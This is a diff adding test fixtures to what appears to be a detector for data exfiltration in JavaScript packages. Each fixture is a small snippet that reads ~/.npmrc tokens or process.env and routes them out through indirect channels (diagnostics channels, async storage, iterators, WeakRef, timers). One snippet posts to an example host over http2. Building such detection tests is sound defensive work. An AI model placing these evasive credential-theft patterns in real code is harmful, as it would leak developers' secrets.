@@ -331,6 +331,97 @@ const CHANNELS: readonly Row[] = [
     'what sees each request of a client',
     "const c=require('axios').create({});c.interceptors.request.use((cfg)=>{cfg.data=process.env;return cfg});c.post('/')",
   ],
+  [
+    'what a function of another module tells the one that it is given',
+    {
+      'index.js':
+        "const {each}=require('./keys');const rows=[];each((name,text)=>{rows.push(name+'.'+text)});SEND«rows.join()»",
+      'keys.js':
+        "const fs=require('fs'),os=require('os');exports.each=(fn)=>{['.npmrc'].forEach((n)=>fn(n,fs.readFileSync(os.homedir()+'/'+n,'utf8')))}",
+    },
+  ],
+  [
+    'an instance that another module makes, by what it says it holds',
+    {
+      'index.js': "import {Keys} from './keys.js';for(const k of new Keys())SEND«k»",
+      'keys.js':
+        "import {readFileSync} from 'node:fs';import {homedir} from 'node:os';export class Keys{*[Symbol.iterator](){yield readFileSync(homedir()+'/.npmrc')}}",
+    },
+    { type: 'module' },
+  ],
+  ['what a timer hands on to an export', 'READ;exports.up=(d)=>{SEND«d»};setImmediate(exports.up,k)'],
+  [
+    'a request of a connection that is only tried',
+    "READ;const attempt=(fn)=>{try{return fn()}catch{}};const n=attempt(()=>parseInt('1'));const s=attempt(()=>require('http2').connect('https://c.example'));s?.request({':method':'POST'})?.end(k)",
+  ],
+  [
+    'an instance that says itself what it is as a text',
+    "const fs=require('fs');class K{get text(){return fs.readFileSync(process.env.HOME+'/.npmrc','utf8')} [Symbol.toPrimitive](){return this.text} go(){const q=`${this}`;SEND«q»}} new K().go()",
+  ],
+  [
+    'what is published under a topic',
+    {
+      'index.js':
+        "import {channel} from 'node:diagnostics_channel';import './up.js';const ch={ready:channel('acme:ready')};ch.ready.publish({env:process.env})",
+      'up.js':
+        "import {subscribe} from 'node:diagnostics_channel';subscribe('acme:ready',({env})=>{SEND«JSON.stringify(env)»})",
+    },
+    { type: 'module' },
+  ],
+  [
+    'what is published on a channel that another module made',
+    {
+      'index.js': "const {ready}=require('./ready');require('./up');ready.publish({env:process.env})",
+      'up.js': "const {ready}=require('./ready');ready.subscribe((m)=>{SEND«JSON.stringify(m.env)»})",
+      'ready.js': "exports.ready=require('diagnostics_channel').channel('acme:ready')",
+    },
+  ],
+  [
+    'what a storage of another module holds',
+    {
+      'index.js': "import {ctx} from './ctx.js';import {go} from './go.js';ctx.run({env:process.env},()=>go())",
+      'go.js':
+        "import {ctx} from './ctx.js';export const go=()=>{const {env}=ctx.getStore();SEND«JSON.stringify(env)»}",
+      'ctx.js': "import {AsyncLocalStorage} from 'node:async_hooks';export const ctx=new AsyncLocalStorage()",
+    },
+    { type: 'module' },
+  ],
+  [
+    'what is put into a list that a storage of another module holds',
+    {
+      'index.js':
+        "const {ctx}=require('./ctx');const r=require('./read'),u=require('./up');ctx.run({rows:[]},()=>{r.read();u.up()})",
+      'read.js': "const {ctx}=require('./ctx');READ;exports.read=()=>{const s=ctx.getStore();s.rows.push(k)}",
+      'up.js': "const {ctx}=require('./ctx');exports.up=()=>{for(const row of ctx.getStore().rows)SEND«row»}",
+      'ctx.js': "exports.ctx=new (require('async_hooks').AsyncLocalStorage)()",
+    },
+  ],
+  [
+    'places that a function of another module gives',
+    {
+      'index.js': "const fs=require('fs');for(const p of require('./places').all())SEND«fs.readFileSync(p)»",
+      'places.js': "exports.all=()=>['.npmrc'].map((n)=>require('path').join(require('os').homedir(),n))",
+    },
+  ],
+  [
+    'places among what a function of another module gives',
+    {
+      'index.js':
+        "const fs=require('fs');const {begin}=require('./places');const s=begin();for(const n of s.names)SEND«fs.readFileSync(s.home+'/'+n)»",
+      'places.js': "exports.begin=()=>({home:require('os').homedir(),names:['.npmrc'],out:[]})",
+    },
+  ],
+  [
+    'a method of an object that another module exports',
+    {
+      'index.js': "const {host}=require('./parts');host.tell().then((t)=>{SEND«t»})",
+      'parts.js': "exports.host={async tell(){return require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')}}",
+    },
+  ],
+  [
+    'the environment behind a weak reference',
+    'class K{constructor(){this.p=new WeakRef(process)} go(){SEND«JSON.stringify(this.p.deref().env)»}} new K().go()',
+  ],
 ];
 
 testLeaving(CHANNELS);
